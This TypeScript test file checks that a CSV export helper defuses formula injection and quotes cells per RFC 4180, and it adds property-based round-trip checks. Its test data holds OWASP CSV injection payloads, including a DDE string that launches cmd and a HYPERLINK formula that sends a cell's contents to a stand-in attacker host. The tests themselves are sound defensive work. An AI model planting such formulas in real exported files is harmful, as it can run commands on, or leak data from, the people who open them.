import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { buildCsv, csvCell, csvLine, isPlainNumber } from './csv';

/** RFC 4180 read back, as a spreadsheet splits the text into cells (quotes removed, doubled quotes undone). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += char;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

describe('csvCell: OWASP CSV injection payloads arrive as text', () => {
  it.each([
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['-1+1', "'-1+1"],
    ['+1', "'+1"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`,
    ],
    ['=SUM(A1:A9)', "'=SUM(A1:A9)"],
    ['+60123456789', "'+60123456789"],
    ['-', "'-"],
    ['-12.50x', "'-12.50x"],
    ['-1e5', "'-1e5"],
    ['-.5', "'-.5"],
  ])('%j -> %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });
});

describe('csvCell: plain numbers stay numbers, the rest is quoted as RFC 4180 says', () => {
  it.each<[unknown, string]>([
    [null, ''],
    [undefined, ''],
    ['', ''],
    ['plain', 'plain'],
    [1234.5, '1234.5'],
    [-12, '-12'],
    ['-12.50', '-12.50'],
    ['-1,234.50', '"-1,234.50"'],
    ['-1,234,567', '"-1,234,567"'],
    ['1,234.50', '"1,234.50"'],
    [0, '0'],
    [true, 'Yes'],
    [false, 'No'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    [' padded', '" padded"'],
    ['@cmd', "'@cmd"],
    [new Date('2024-03-01T00:00:00Z'), '2024-03-01'],
    [new Date(Number.NaN), ''],
  ])('%j -> %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });
});

describe('isPlainNumber', () => {
  it.each([
    ['0', true],
    ['-12.50', true],
    ['1234', true],
    ['-1,234.50', true],
    ['12,34', false],
    ['1,2345', false],
    ['-1+1', false],
    ['1e3', false],
    ['', false],
    ['-', false],
    ['1.', false],
  ])('%j -> %s', (text, expected) => {
    expect(isPlainNumber(text)).toBe(expected);
  });
});

describe('csvLine and buildCsv', () => {
  it('writes the headers then one CRLF line per row', () => {
    const rows = [
      { name: 'Lori, 10 tan', price: 1500.5, note: null },
      { name: 'Excavator', price: 0, note: '=1+1' },
    ];
    const csv = buildCsv(
      [
        { header: 'Name', value: (r: (typeof rows)[number]) => r.name },
        { header: 'Price (RM)', value: (r) => r.price },
        { header: 'Note', value: (r) => r.note },
      ],
      rows,
    );
    expect(csv).toBe('Name,Price (RM),Note\r\n"Lori, 10 tan",1500.5,\r\nExcavator,0,\'=1+1\r\n');
  });

  it('writes only the header line when there are no rows, and defuses headers too', () => {
    expect(buildCsv([{ header: '=Name', value: (r: { n: string }) => r.n }], [])).toBe("'=Name\r\n");
    expect(csvLine(['a', -1, '-1+1'])).toBe("a,-1,'-1+1\r\n");
  });
});

describe('properties', () => {
  const anyText = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ' ', 'a', '1', '.'),
  });
  const cellInput = fc.oneof(anyText, fc.string(), fc.double({ noNaN: true }), fc.integer());

  it('a cell read back equals its text, but for the leading apostrophe of a defused cell', () => {
    fc.assert(
      fc.property(fc.array(cellInput, { minLength: 1, maxLength: 6 }), (cells) => {
        const [parsed] = parseCsv(csvLine(cells));
        expect(parsed).toHaveLength(cells.length);
        cells.forEach((value, index) => {
          const text = String(value);
          const back = parsed?.[index] ?? '';
          expect(back === text || back === `'${text}`).toBe(true);
          if (back !== text) expect(TRIGGERS.some((trigger) => text.startsWith(trigger))).toBe(true);
        });
      }),
    );
  });

  it('no cell read back starts with a formula trigger unless it is a plain number', () => {
    fc.assert(
      fc.property(fc.array(fc.array(cellInput, { maxLength: 5 }), { maxLength: 5 }), (rows) => {
        const text = rows.map((row) => csvLine(row)).join('');
        for (const row of parseCsv(text))
          for (const cell of row)
            if (TRIGGERS.some((trigger) => cell.startsWith(trigger))) expect(isPlainNumber(cell)).toBe(true);
      }),
    );
  });
});
